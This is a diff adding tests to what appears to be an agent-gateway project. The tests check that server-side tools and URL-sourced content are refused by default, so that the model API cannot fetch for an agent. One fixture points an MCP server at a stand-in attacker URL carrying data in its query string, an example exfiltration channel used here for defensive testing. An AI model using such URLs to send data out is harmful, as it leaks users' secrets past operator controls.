@@ -140,3 +140,118 @@ def test_values_are_counted_outside_strings_only() -> None:
         inspect(b"[" * 100_000 + b"]" * 100_000)
     with pytest.raises(BodyRefused, match="not a JSON object"):
         inspect(b"[1]")
+
+
+# --- F7: nothing that makes the model API fetch for the agent, unless the operator allows it ---
+
+REFUSED: dict[str, dict[str, Any]] = {
+    "web_fetch": {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 5}]},
+    "web_search": {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
+    "code_execution": {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
+    "mcp_toolset": {"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]},
+    "unknown_type": {"tools": [{"type": "some_future_tool_20300101", "name": "f"}]},
+    "mcp_servers": {
+        "mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp?d=S", "name": "x"}]
+    },
+    "image_url": {
+        "messages": [
+            {
+                "role": "user",
+                "content": [
+                    {"type": "text", "text": "look"},
+                    {"type": "image", "source": {"type": "url", "url": "https://a.example/?d=S"}},
+                ],
+            }
+        ]
+    },
+    "document_url": {
+        "messages": [
+            {
+                "role": "user",
+                "content": [
+                    {
+                        "type": "tool_result",
+                        "tool_use_id": "t1",
+                        "content": [
+                            {
+                                "type": "document",
+                                "source": {"type": "url", "url": "https://a.example/x.pdf"},
+                            }
+                        ],
+                    }
+                ],
+            }
+        ]
+    },
+}
+CLIENT_TOOLS = [
+    {"name": "Read", "description": "read", "input_schema": {"type": "object"}},
+    {"type": "custom", "name": "Mine", "input_schema": {"type": "object"}},
+    {"type": "bash_20250124", "name": "bash"},
+    {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
+    {"type": "memory_20250818", "name": "memory"},
+]
+
+
+async def test_server_side_tools_and_url_sources_are_refused_by_default(tmp_path: Path) -> None:
+    async with (
+        upstream_app(Upstream()) as upstream,
+        local_gateway(tmp_path, upstream_url=upstream.url) as gw,
+        aiohttp.ClientSession() as http,
+    ):
+        token = await gw.run("exfil")
+        for name, extra in REFUSED.items():
+            status, answer = await post(http, gw.url, token, {**BODY, **extra})
+            assert status == 400, (name, answer)
+            message = answer["error"]["message"]
+            assert "egress allowlist" in message and "AGENTKIT_GATEWAY_SERVER_TOOLS" in message
+        assert upstream.bodies == []  # none reached the model API
+        # client-side tools (the agent runs them) pass
+        status, _ = await post(http, gw.url, token, {**BODY, "tools": CLIENT_TOOLS})
+        assert status == 200
+        assert json.loads(upstream.bodies[0])["tools"] == CLIENT_TOOLS
+
+
+async def test_the_operator_can_allow_server_side_tools(tmp_path: Path) -> None:
+    async with (
+        upstream_app(Upstream()) as upstream,
+        local_gateway(tmp_path, upstream_url=upstream.url, server_tools=True) as gw,
+        aiohttp.ClientSession() as http,
+    ):
+        token = await gw.run("allowed")
+        for name, extra in REFUSED.items():
+            status, answer = await post(http, gw.url, token, {**BODY, **extra})
+            assert status == 200, (name, answer)
+        assert len(upstream.bodies) == len(REFUSED)
+
+
+@pytest.mark.slow
+async def test_a_real_claude_code_run_passes_the_body_checks(tmp_path: Path) -> None:
+    """Claude Code's own requests (tools, thinking, context management, a tool result) are
+    forwarded under the default policy, and each is estimated within bounds."""
+    from agentkit.testing import ScriptedAnthropicServer, scripts
+    from tests.test_agent_claude_code import claude_bin, cli_env, run_claude
+
+    binary = claude_bin()
+    work, home = tmp_path / "work", tmp_path / "home"
+    for folder in (work, home, tmp_path / "gw"):
+        folder.mkdir()
+    target = work / "hello.txt"
+    script = scripts.write_file(str(target), "through the gateway\n", final_text="Wrote it.")
+    async with (
+        ScriptedAnthropicServer(script) as server,
+        local_gateway(tmp_path / "gw", upstream_url=server.url) as gw,
+    ):
+        token = await gw.run("claude-code")
+        code, events, stderr = await run_claude(
+            binary, work, cli_env(gw.url, home, ANTHROPIC_API_KEY=token), "write hello.txt"
+        )
+        assert code == 0, stderr
+        assert target.read_text() == "through the gateway\n"
+        assert events[-1]["result"] == "Wrote it."
+        assert len(script.main_requests) == 2
+        for request in server.message_requests:
+            wanted = inspect(json.dumps(request.body).encode())  # raises if it were refused
+            assert 0 < wanted.input_tokens < 100_000
+        live = (await gw.client.runs(["claude-code"]))["claude-code"]
+        assert live["requests"] == len(server.message_requests)
